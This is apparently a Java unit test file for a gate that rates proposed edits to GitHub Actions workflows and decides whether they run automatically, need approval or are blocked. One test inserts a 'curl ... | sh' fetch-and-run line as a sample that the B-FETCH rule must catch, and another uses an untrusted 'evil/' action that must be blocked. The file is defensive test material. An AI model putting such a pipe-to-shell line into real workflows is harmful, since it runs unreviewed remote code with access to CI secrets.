package io.github.cicdmonitor.gate;

import static io.github.cicdmonitor.gate.Proposals.CI;
import static io.github.cicdmonitor.gate.Proposals.DEPLOY;
import static io.github.cicdmonitor.gate.Proposals.PLAIN;
import static io.github.cicdmonitor.gate.Proposals.change;
import static io.github.cicdmonitor.gate.Proposals.ci;
import static io.github.cicdmonitor.gate.Proposals.created;
import static io.github.cicdmonitor.gate.Proposals.decide;
import static io.github.cicdmonitor.gate.Proposals.edit;
import static org.assertj.core.api.Assertions.assertThat;

import io.github.cicdmonitor.gate.Proposals.Context;
import io.github.cicdmonitor.gate.finding.EditSize;
import io.github.cicdmonitor.model.FileChange;
import io.github.cicdmonitor.model.GateDecision;
import io.github.cicdmonitor.model.GateDecision.Outcome;
import io.github.cicdmonitor.model.HardRuleHit;
import io.github.cicdmonitor.workflow.RepositoryFacts;
import java.util.AbstractList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class SafetyGateTest {
  private static final FileChange HARMLESS = ci("setup-node@v3", "setup-node@v4");

  @Test
  void the_threshold_itself_asks() {
    FileChange typo = ci("npm run lint", "npm run lint:all");

    assertThat(outcome(typo, 10)).isEqualTo(Outcome.APPROVAL);
    assertThat(outcome(HARMLESS, 4)).isEqualTo(Outcome.APPROVAL);
    assertThat(outcome(HARMLESS, 5)).isEqualTo(Outcome.AUTO);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        ".github/**",
        "**/ci.yml",
        "**",
        ".github/*/ci.yml",
        "/.github/workflows/*.yml",
        ".GITHUB/**"
      })
  void an_edit_of_a_protected_path_asks(String glob) {
    assertThat(decide(new Context().protectedPath(glob).build(), HARMLESS).outcome())
        .isEqualTo(Outcome.APPROVAL);
  }

  @ParameterizedTest
  @ValueSource(strings = {"*", ".github/*", "ci.yml", "docs/**", "**/ci.yaml"})
  void a_glob_that_does_not_fit_protects_nothing(String glob) {
    assertThat(decide(new Context().protectedPath(glob).build(), HARMLESS).outcome())
        .isEqualTo(Outcome.AUTO);
  }

  @Test
  void a_touched_job_with_a_deployment_environment_asks_whatever_the_threshold() {
    GateDecision decision = SafetyGate.decide(
        List.of(edit(".github/workflows/x.yml", DEPLOY, "ubuntu-22.04", "ubuntu-24.04")),
        new Proposals.Context().build(),
        new GatePolicy(10));

    assertThat(decision.outcome()).isEqualTo(Outcome.APPROVAL);
    assertThat(decision.floors()).anyMatch(floor -> floor.contains("environment"));
  }

  @Test
  void a_secret_in_another_job_does_not_make_this_one_privileged() {
    String both = PLAIN + DEPLOY.substring(DEPLOY.indexOf("  ship:"));

    GateDecision decision = decide(edit(CI, both, "setup-node@v3", "setup-node@v4"));

    assertThat(decision.risk().factors()).noneMatch(factor -> factor.factor().startsWith("F5"));
    assertThat(decision.outcome())
        .as("nothing is broken, and a person knows what that job takes over")
        .isEqualTo(Outcome.APPROVAL);
  }

  @Test
  void a_hard_rule_names_the_line_it_hit() {
    GateDecision decision = decide(
        ci("run: npm test", "run: |\n          npm ci\n          curl -s https://x.example | sh"));

    List<String> lines = EditSize.lines(PLAIN.replace(
        "run: npm test", "run: |\n          npm ci\n          curl -s https://x.example | sh"));
    assertThat(decision.hits())
        .filteredOn(hit -> hit.rule().equals("B-FETCH"))
        .singleElement()
        .extracting(hit -> lines.get(hit.line() - 1))
        .asString()
        .contains("curl");
  }

  @Test
  void an_anchor_that_is_edited_once_counts_where_it_is_used() {
    String text = """
        on: push
        jobs:
          a:
            runs-on: &r ubuntu-20.04
          b:
            runs-on: *r
          c:
            runs-on: *r
        """;

    GateDecision decision = decide(edit(CI, text, "ubuntu-20.04", "ubuntu-22.04"));

    assertThat(decision.risk().factors().toString()).contains("job a:", "job b:", "job c:");
  }

  @Test
  @DisplayName("X-112: what cannot be judged is never done by itself")
  void what_cannot_be_judged_is_never_done_by_itself() {
    List<FileChange> unreadableOnce = new AbstractList<>() {
      private boolean read;

      @Override
      public FileChange get(int index) {
        if (!read) {
          read = true;
          throw new IllegalStateException("a defect of a reader");
        }
        return HARMLESS;
      }

      @Override
      public int size() {
        return 1;
      }
    };

    GateDecision decision =
        SafetyGate.decide(unreadableOnce, new Proposals.Context().build(), new GatePolicy(10));

    assertThat(SafetyGate.decide(
                List.of(HARMLESS), new Proposals.Context().build(), new GatePolicy(10))
            .outcome())
        .isEqualTo(Outcome.AUTO);
    assertThat(decision.outcome()).isEqualTo(Outcome.APPROVAL);
    assertThat(decision.floors()).containsExactly("the proposal could not be judged");
  }

  @Test
  void the_mode_of_a_file_stays() {
    RepositoryFacts facts =
        new RepositoryFacts(Map.of(), Map.of("x.sh", "100755"), Map.of(), Map.of());

    assertThat(rules(decide(new Context().facts(facts).build(), change("x.sh", "a\n", "b\n"))))
        .contains("B-PATH");
  }

  @Test
  void a_folder_that_is_a_link_or_a_submodule_is_refused() {
    for (String mode : List.of("120000", "160000")) {
      RepositoryFacts facts =
          new RepositoryFacts(Map.of(), Map.of(".github", mode), Map.of(), Map.of());

      assertThat(rules(decide(new Context().facts(facts).build(), HARMLESS))).contains("B-PATH");
    }
  }

  @Test
  void a_new_file_asks_and_a_new_workflow_is_held_against_the_hard_rules() {
    assertThat(decide(created("docs/new.md", "text\n")).outcome()).isEqualTo(Outcome.APPROVAL);
    assertThat(rules(decide(created(".github/workflows/new.yml", "on: pull_request_target\n"))))
        .contains("B-TRIG");
  }

  @Test
  void a_workflow_that_is_gone_takes_its_gates_along() {
    FileChange gone = new FileChange(CI, "100644", Optional.of(PLAIN), Optional.empty());

    assertThat(rules(decide(gone))).contains("B-MASK");
  }

  @Test
  void a_repair_of_broken_yaml_does_not_hide_a_hard_rule() {
    String broken = PLAIN.replace("    timeout-minutes", "   timeout-minutes");
    String repaired = PLAIN.replace("on: [push, pull_request]", "on: [push, pull_request_target]");

    assertThat(rules(decide(change(CI, broken, repaired)))).contains("B-TRIG");
  }

  @Test
  void a_result_that_does_not_parse_is_refused() {
    assertThat(rules(decide(ci("jobs:", "jobs: {")))).contains("B-YAML");
  }

  @Test
  void a_tag_that_github_does_not_know_asks() {
    RepositoryFacts facts = new RepositoryFacts(
        Map.of(), Map.of(), Map.of(), Map.of("actions/setup-node", Set.of("v3")));

    GateDecision decision = decide(new Context().facts(facts).build(), HARMLESS);

    assertThat(decision.outcome()).isEqualTo(Outcome.APPROVAL);
    assertThat(decision.risk().value()).isEqualTo(6);
  }

  @Test
  void more_than_five_files_or_two_hundred_lines_are_too_much() {
    FileChange[] six = new FileChange[6];
    for (int i = 0; i < six.length; i++) {
      six[i] = change("docs/" + i + ".md", "a\n", "b\n");
    }
    String two = "line\n".repeat(200);

    assertThat(rules(decide(six))).contains("B-SIZE");
    assertThat(rules(decide(change("README.md", "# A\n", "# A\n" + two)))).doesNotContain("B-SIZE");
    assertThat(rules(decide(change("README.md", "# A\n", "# A\n" + two + "x\n"))))
        .contains("B-SIZE");
    assertThat(rules(decide(change("README.md", "# A\n", "x".repeat(66_000))))).contains("B-SIZE");
  }

  @Test
  void facts_are_asked_for_what_is_new_only() {
    FactsNeeded needed =
        FactsNeeded.of(List.of(HARMLESS, change("app/requirements.txt", "a\n", "b\n")));

    assertThat(needed.actions()).containsExactly("actions/setup-node");
    assertThat(needed.commits()).isEmpty();
    assertThat(needed.files())
        .contains("app/constraints.txt", "poetry.lock")
        .doesNotContain("app/requirements.txt");
    assertThat(needed.treePaths()).contains(".github", ".github/workflows", CI);
  }

  @Test
  void without_any_change_there_is_nothing_to_ask() {
    assertThat(decide().outcome()).isEqualTo(Outcome.AUTO);
    assertThat(decide().risk().value()).isZero();
  }

  @Test
  void the_table_is_plain_lines_that_add_up() {
    String table = RiskTable.text(decide(ci("timeout-minutes: 10", "timeout-minutes: 20")));

    assertThat(table).isEqualTo("""
        points  why
             2  F3 workflow without privileges: .github/workflows/ci.yml
             1  FIX recognised fix: job-timeout (job test: timeout-minutes): from 10 to 20 minutes at .github/workflows/ci.yml:6
             3  sum
        => risk 3 of 10, automatic
        """);
  }

  private static Outcome outcome(FileChange change, int threshold) {
    return SafetyGate.decide(
            List.of(change), new Proposals.Context().build(), new GatePolicy(threshold))
        .outcome();
  }

  private static List<String> rules(GateDecision decision) {
    return decision.hits().stream().map(HardRuleHit::rule).toList();
  }

  @Test
  void recognised_fixes_of_two_kinds_count_the_dearest() {
    FileChange both = change(
        CI,
        PLAIN,
        PLAIN
            .replace("setup-node@v3", "setup-node@v4")
            .replace("node-version: 16", "node-version: 22"));

    assertThat(decide(both).outcome()).isEqualTo(Outcome.AUTO);
    assertThat(decide(both).risk().value()).isEqualTo(decide(HARMLESS).risk().value());
  }

  @Test
  void an_official_setup_action_by_a_tag_asks_and_one_of_a_stranger_is_blocked() {
    assertThat(
            decide(ci("name: Lint\n", "uses: hashicorp/setup-terraform@v3\n      - name: Lint\n"))
                .outcome())
        .isEqualTo(Outcome.APPROVAL);
    assertThat(
            decide(ci("name: Lint\n", "uses: hashicorp/setup-terraform@main\n      - name: Lint\n"))
                .outcome())
        .isEqualTo(Outcome.BLOCK);
    assertThat(decide(ci("name: Lint\n", "uses: evil/setup-terraform@v3\n      - name: Lint\n"))
            .outcome())
        .isEqualTo(Outcome.BLOCK);
  }

  @Test
  void what_GitHub_offers_for_what_it_refuses_goes_out_beside_a_secret() {
    String secret = PLAIN
        .replace("run: npm test", "run: npm test\n        env:\n          T: ${{ secrets.T }}")
        .replace("actions/cache@v4", "actions/cache@v2");

    assertThat(decide(edit(CI, secret, "actions/cache@v2", "actions/cache@v4")).outcome())
        .isEqualTo(Outcome.AUTO);
    assertThat(decide(edit(CI, secret, "setup-node@v3", "setup-node@v4")).outcome())
        .isEqualTo(Outcome.APPROVAL);
  }
}
